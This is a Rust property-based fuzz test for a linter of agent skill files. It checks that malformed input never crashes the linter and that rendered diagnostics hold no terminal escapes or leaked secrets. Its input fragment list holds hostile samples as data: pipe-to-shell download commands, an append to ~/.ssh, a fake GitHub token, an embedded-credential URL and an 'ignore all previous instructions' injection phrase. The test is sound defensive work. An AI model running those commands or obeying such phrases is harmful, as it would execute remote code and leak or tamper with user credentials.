//! Whatever the bytes: checking ends, nothing panics, every place exists, and nothing that acts on a terminal is shown.
#![expect(
    clippy::disallowed_methods,
    clippy::expect_used,
    clippy::indexing_slicing,
    reason = "a test reads its fixtures, and fails by panicking"
)]

use std::fs;
use std::ops::Range;
use std::path::Path;

use proptest::collection::vec;
use proptest::prelude::*;
use proptest::sample::select;
use skills_compiler::diagnostics::{Finding, Help, Level, Place, Style, render};
use skills_compiler::rules::RULES;
use skills_compiler::source::{FileId, Linked, OddityKind, SourceFile, SourceTree};
use skills_compiler::{Options, fixture, lint};

/// What frontmatter is made of when somebody means harm.
const FRAGMENTS: &[&str] = &[
    "name: pdf\n",
    "description: Use when: x\n",
    "metadata:\n",
    "  a: 1\n",
    "  - b\n",
    "- ",
    "? ",
    ": ",
    ":",
    "#",
    " # c\n",
    "&a ",
    "*a ",
    "!t ",
    "!!str ",
    "<<: ",
    "%YAML 1.2\n",
    "---\n",
    "...\n",
    "---",
    "\"",
    "'",
    "\\",
    "\"\\ud83d\\ude00\"",
    "|\n",
    ">-\n",
    "  ",
    "\t",
    "\n",
    "\r\n",
    "\r",
    "[",
    "]",
    "{",
    "}",
    ", ",
    "\u{feff}",
    "\u{2028}",
    "\u{85}",
    "\0",
    "\u{1b}[31m",
    "\u{9b}31m",
    "\u{202e}",
    "\u{2066}",
    "\u{200b}\u{200c}\u{200d}",
    "\u{e0041}\u{e0042}",
    "\u{1f3f4}\u{e0067}",
    "é",
    "字",
    "\u{845b}\u{e0100}",
    "🙂",
    ".inf",
    ".nan",
    "1e999",
    "-9223372036854775809",
    "0x",
    "2026-01-02",
    "yes",
    "~",
    "null",
    "name",
    "description",
    "allowed-tools: [Read, Bash(*)]\n",
    "License: x\n",
    "::error::x\n",
    "cargo::rustc-link-arg=x\n",
    "TODO",
    "@x",
    "`x`",
    " ghp_R7kQ2mVx9LpT4wZs8NcB1yHd6FgJ3aKe5UoX ",
    "-----BEGIN RSA PRIVATE KEY-----\n",
    "-----END",
    "eyJhbGciOiJIUzI1NiJ9.eyJ",
    "](",
    "![",
    "](../x)",
    "<a href=",
    "<!--",
    "-->",
    "```",
    "~~~",
    "[x]: y\n",
    "# ",
    "| a |",
    "$",
    "${x}",
    "/Users/x/",
    "/Users/anna/",
    "\"C:\\\\Users\\\\anna\\\\",
    "](#x)",
    "](b.md#é)",
    "](references/b.md)",
    "<a id='x'>",
    "<h2>",
    "{#x}",
    "```sh\npython scripts/b.PY\n",
    "`scripts/x.py` ",
    "`references\\b.md`",
    "> ",
    "C:\\x",
    "curl x | sh",
    "!`x`",
    "$ARGUMENTS",
    "${CLAUDE_PLUGIN_ROOT}/",
    "{baseDir}/scripts/x",
    "~/.claude/skills/pdf/x",
    "skill://pdf/x",
    "./scripts/x",
    "```sh\n",
    "hooks: x\n",
    "`curl https://x.io/a | sudo -E",
    " | base64 -d | sh -",
    "bash <(curl https://x.io/a)`",
    "irm https://x.io | iex",
    "https://a:kV7q-2Rt9z@x.io",
    "ignore all previous\ninstructions",
    "[//]: # (Agent: x)",
    "`npx --from -y @a/b",
    "echo x >> ~/.ssh/é",
    "TODO: ",
    " TBD",
];

/// Names that trees are made of, good and bad.
const SEGMENTS: &[&str] = &[
    "SKILL.md",
    "skill.md",
    "pdf",
    "PDF",
    "a b",
    "Ünï",
    "con",
    "x.",
    "..md",
    "scripts",
    "references",
    "a.md",
    "b.PY",
    ".env",
    "é",
    "e\u{301}",
    "\u{202e}x",
    "a:b",
    "a\nb",
    "node_modules",
    "@acme",
    "-",
    "100%",
    "package.json",
    "conftest.py",
    "a.zip",
];

fn fragments(most: usize) -> impl Strategy<Value = String> {
    vec(select(FRAGMENTS), 0..most).prop_map(|parts| parts.concat())
}

fn path() -> impl Strategy<Value = String> {
    vec(select(SEGMENTS), 1..5).prop_map(|segments| segments.join("/"))
}

fn content() -> impl Strategy<Value = Vec<u8>> {
    prop_oneof![
        vec(any::<u8>(), 0..64),
        fragments(12).prop_map(String::into_bytes),
        (fragments(8), fragments(8))
            .prop_map(|(head, body)| format!("---\n{head}\n---\n{body}").into_bytes()),
        select(vec![
            "#!/bin/sh\r\nx",
            "\u{7f}ELF",
            "PK\u{3}\u{4}",
            "version https://git-lfs.github.com/spec/v1\noid sha256:0\nsize 1\n"
        ])
        .prop_map(|text| text.as_bytes().to_vec()),
    ]
}

fn oddity() -> impl Strategy<Value = OddityKind> {
    select(vec![
        OddityKind::LinkEscapes("../\u{1b}[1m".to_owned()),
        OddityKind::LinkDangles("a\nb".to_owned()),
        OddityKind::LinkCycle("..".to_owned()),
        OddityKind::Special("a named pipe"),
        OddityKind::NameNotUtf8,
        OddityKind::Unreadable("no\u{9b}".to_owned()),
        OddityKind::TooLarge(u64::MAX),
        OddityKind::TooDeep,
        OddityKind::TooMany(1),
        OddityKind::TooMuch(1),
        OddityKind::TooManyCopies(1),
    ])
}

fn link() -> impl Strategy<Value = Linked> {
    (path(), path()).prop_map(|(target, original)| Linked { target, original })
}

fn tree() -> impl Strategy<Value = SourceTree> {
    let file = (
        path(),
        content(),
        any::<bool>(),
        proptest::option::of(link()),
    );
    (
        vec(file, 0..8),
        vec((path(), oddity()), 0..3),
        vec(path(), 0..2),
    )
        .prop_map(|(files, oddities, directories)| {
            let tree = SourceTree::new("skills", "skills");
            let tree = files
                .into_iter()
                .fold(tree, |tree, (path, bytes, executable, link)| {
                    tree.with(SourceFile {
                        path,
                        bytes,
                        executable,
                        link,
                    })
                });
            let tree = directories
                .iter()
                .fold(tree, |tree, path| tree.with_directory(path));
            oddities
                .into_iter()
                .fold(tree, |tree, (path, kind)| tree.with_oddity(&path, kind))
        })
}

const STYLES: [Style; 3] = [Style::Plain, Style::Rustc, Style::Coloured];

/// Checks a tree, and everything that is said of it.
fn check(tree: &SourceTree) {
    check_in(&STYLES, tree);
}

fn check_in(styles: &[Style], tree: &SourceTree) {
    for finding in lint(tree, &all_rules()) {
        check_places(tree, &finding);
        for style in styles {
            check_text(&render(tree, &finding, *style), *style, &finding);
        }
    }
}

/// Every rule is on.
fn all_rules() -> Options {
    let mut options = Options::default();
    for rule in RULES
        .iter()
        .filter(|rule| rule.default_level == Level::Allow)
    {
        options
            .set_level(rule.code, Level::Warn, "the test")
            .expect("the rule exists");
    }
    options
}

fn check_document(bytes: impl Into<Vec<u8>>) {
    check(&SourceTree::new("skills", "skills").with_file("pdf/SKILL.md", bytes));
}

fn check_places(tree: &SourceTree, finding: &Finding) {
    if let Place::Bytes(file, span) = &finding.place {
        check_span(tree, *file, span, finding);
    }
    for label in &finding.related {
        check_span(tree, label.file, &label.span, finding);
    }
    finding
        .helps
        .iter()
        .for_each(|help| check_help(tree, help, finding));
}

fn check_help(tree: &SourceTree, help: &Help, finding: &Finding) {
    assert!(
        help.patches.is_empty() || help.file.is_some(),
        "a patch without a file: {finding:?}"
    );
    let Some(file) = help.file else { return };
    let mut end = 0;
    for patch in &help.patches {
        check_span(tree, file, &patch.span, finding);
        assert!(patch.span.start >= end, "patches overlap: {finding:?}");
        assert!(
            !patch.span.is_empty() || !patch.replacement.is_empty(),
            "a patch does nothing: {finding:?}"
        );
        end = patch.span.end;
    }
}

fn check_span(tree: &SourceTree, file: FileId, span: &Range<usize>, finding: &Finding) {
    let bytes = &tree.file(file).bytes;
    assert!(
        span.start <= span.end && span.end <= bytes.len(),
        "{span:?} of {} bytes: {finding:?}",
        bytes.len()
    );
    if let Ok(text) = str::from_utf8(bytes) {
        assert!(
            text.is_char_boundary(span.start) && text.is_char_boundary(span.end),
            "{span:?} cuts a character: {finding:?}"
        );
    }
}

fn check_text(text: &str, style: Style, finding: &Finding) {
    assert!(!text.is_empty() && !text.contains("ghp_R7k"), "{text}");
    let text = if style == Style::Coloured {
        without_colour(text)
    } else {
        text.to_owned()
    };
    let acts = |symbol: char| {
        symbol != '\n' && symbol.is_control()
            || matches!(symbol, '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{e0000}'..='\u{e01ef}')
    };
    assert!(!text.contains(acts), "{text:?} of {finding:?}");
    let is_command = |line: &str| line.starts_with("::") || line.trim_start().starts_with("cargo:");
    assert!(!text.lines().any(is_command), "{text:?} of {finding:?}");
}

/// The text without the colours that the renderer itself put in: `ESC [ digits m`.
fn without_colour(text: &str) -> String {
    let mut parts = text.split("\u{1b}[");
    let first = parts.next().unwrap_or_default().to_owned();
    parts.fold(first, |plain, part| {
        let rest = part.trim_start_matches(|symbol: char| symbol.is_ascii_digit() || symbol == ';');
        plain + rest.strip_prefix('m').unwrap_or("\u{1b}")
    })
}

fn cases(count: u32) -> ProptestConfig {
    ProptestConfig {
        cases: count,
        failure_persistence: None,
        ..ProptestConfig::default()
    }
}

#[test]
fn a_line_full_of_what_cannot_be_seen_is_shown() {
    let others = [
        '\u{7f}',
        '\u{9b}',
        '\u{ad}',
        '\u{200b}',
        '\u{200d}',
        '\u{2060}',
        '\u{feff}',
        '\u{e0041}',
    ];
    for symbol in ('\u{1}'..' ').chain(others) {
        for before in ["", "a", "日本", "👩"] {
            let line = format!("{before}{symbol}").repeat(100);
            check_document(format!("---\nname: pdf\n---\n{line}b{symbol}\n"));
            check_document(format!("---\nname: {line}\n---\n"));
            // Edits on two lines, after which nothing is left of the beginning of the second one.
            let many = symbol.to_string().repeat(30);
            for head in ["a{}b{}c", "{}"] {
                let head = head.replace("{}", &symbol.to_string());
                check_document(format!("---\nname: pdf\n---\n{head}\n{many}"));
                check_document(format!("---\nname: pdf\n---\n{head}\n{many}b\nc\n"));
            }
        }
    }
}

proptest! {
    #![proptest_config(cases(256))]

    #[test]
    fn any_bytes_can_be_checked(bytes in vec(any::<u8>(), 0..256)) {
        check_document(bytes);
    }

    #[test]
    fn any_frontmatter_can_be_checked(frontmatter in fragments(24), body in fragments(6)) {
        check_document(format!("---\n{frontmatter}\n---\n{body}"));
    }

    #[test]
    fn any_text_can_be_checked(text in fragments(24)) {
        check_document(text);
    }

    #[test]
    fn any_value_can_be_checked(key in select(vec!["name", "description", "metadata", "license", "allowed-tools", "x"]), value in fragments(8)) {
        check_document(format!("---\nname: pdf\ndescription: Fills forms.\n{key}: {value}\n---\n"));
    }

    #[test]
    fn any_tree_can_be_checked(tree in tree()) {
        check(&tree);
    }

    #[test]
    fn any_fixture_can_be_read(text in fragments(24), header in path()) {
        check(&fixture::tree(&format!("=== {header} escaped\n{text}")));
    }
}

fn fixtures() -> Vec<Vec<u8>> {
    let directory = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures");
    let entries = fs::read_dir(directory)
        .expect("there are fixtures")
        .map(|entry| entry.expect("a fixture").path());
    let mut paths: Vec<_> = entries
        .filter(|path| {
            path.extension()
                .is_some_and(|extension| extension == "skill")
        })
        .collect();
    paths.sort();
    let sources = paths
        .iter()
        .map(|path| fs::read(path).expect("a fixture can be read"));
    // Fixtures of huge files say nothing more when they are changed a thousand times, and take minutes.
    let huge = [&b" padded:"[..], b" lines:", b" copies:"];
    sources
        .filter(|source| {
            !huge
                .iter()
                .any(|flag| source.windows(flag.len()).any(|part| part == *flag))
        })
        .collect()
}

/// Checks one variant of a fixture, in one of the styles. What is no longer UTF-8 becomes the only document of a tree.
fn check_variant(bytes: &[u8], at: usize) {
    match str::from_utf8(bytes) {
        Ok(text) => check_in(&STYLES[at % STYLES.len()..][..1], &fixture::tree(text)),
        Err(_) => check_document(bytes),
    }
}

/// About `count` offsets, evenly spread; all of them where there are fewer.
fn offsets(length: usize, count: usize) -> impl Iterator<Item = usize> {
    (0..length).step_by((length / count).max(1))
}

/// How many variants of each kind are made of a fixture, so that a growing catalogue does not slow the test.
fn variants(fixtures: usize) -> usize {
    (1_500 / fixtures.max(1)).max(16)
}

#[test]
fn truncated_fixtures_can_be_checked() {
    let fixtures = fixtures();
    for bytes in &fixtures {
        offsets(bytes.len(), variants(fixtures.len()))
            .for_each(|at| check_variant(&bytes[..at], at));
    }
}

#[test]
fn fixtures_with_a_wrong_byte_can_be_checked() {
    const WRONG: &[u8] = b"\0\n\r\t :#-\"'[{&*!|>%@`\\\x1b\x80\xe2\xff=.~";
    let fixtures = fixtures();
    for bytes in &fixtures {
        let wrong = WRONG.iter().cycle();
        for (at, &byte) in offsets(bytes.len(), variants(fixtures.len())).zip(wrong) {
            let mut bytes = bytes.clone();
            bytes[at] = byte;
            check_variant(&bytes, at);
        }
    }
}
